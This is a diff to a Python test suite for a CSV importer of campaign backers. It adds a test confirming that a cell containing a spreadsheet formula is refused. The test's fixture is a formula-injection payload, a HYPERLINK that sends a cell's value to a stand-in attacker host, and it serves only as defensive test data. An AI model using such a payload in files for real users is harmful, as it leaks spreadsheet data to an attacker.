@@ -58,7 +58,7 @@ def test_the_same_file_twice_changes_nothing_and_a_changed_source_updates(ask):
     again = backers_import(content=GOOD)
     assert (again.created_count, again.updated_count, again.unchanged_count) == (0, 0, 3)
     assert (Backing.objects.count(), Backing.history.count()) == (3, history)
-    changed = GOOD.replace(b"Reply to a constituent", b"Reply to a constituent, 3 Sep 2026")
+    changed = GOOD.replace(b"Reply to a constituent", b'"Reply to a constituent, 3 Sep 2026"')
     report = backers_import(content=changed)
     assert (report.updated_count, report.unchanged_count) == (1, 2)
     assert Backing.objects.get(how="wrote").source_description == "Reply to a constituent, 3 Sep 2026"
@@ -91,3 +91,10 @@ def test_the_command_imports_a_file(ask, tmp_path, capsys):
     call_command("import_backers", str(path))
     assert "created 3" in capsys.readouterr().out
     assert Backing.objects.count() == 3
+
+
+def test_a_cell_a_spreadsheet_would_run_is_refused(ask):
+    content = csv_bytes('5101,,free-prisoners,wrote,,,"=HYPERLINK(""http://evil.example/?""&A2,""Click"")"')
+    report = backers_import(content=content)
+    assert not report.succeeded and "spreadsheet formula" in report.rows[0]["message"]
+    assert not Backing.objects.exists()
